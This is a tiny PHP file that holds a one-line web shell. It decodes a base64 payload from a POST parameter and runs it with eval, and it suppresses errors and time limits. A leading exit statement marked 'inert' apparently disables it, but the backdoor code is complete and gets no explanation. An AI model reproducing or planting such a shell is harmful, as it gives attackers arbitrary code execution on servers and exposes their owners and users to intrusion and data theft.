<?php exit; /* inert */ 
@ini_set("display_errors","0");@set_time_limit(0);echo("->|");$k='z'.chr(48);eval(base64_decode($_POST[$k]));echo("|<-");die();
